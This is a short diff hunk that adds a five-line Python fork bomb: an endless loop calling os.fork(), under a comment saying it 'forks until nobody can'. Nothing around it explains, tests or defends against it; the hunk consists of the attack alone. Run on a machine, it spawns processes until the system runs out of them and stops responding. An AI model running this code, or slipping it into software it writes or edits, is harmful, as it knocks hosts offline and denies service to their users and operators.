@@ -1,0 +1,5 @@
+# forks until nobody can
+    import os
+
+    while True:
+        os.fork()
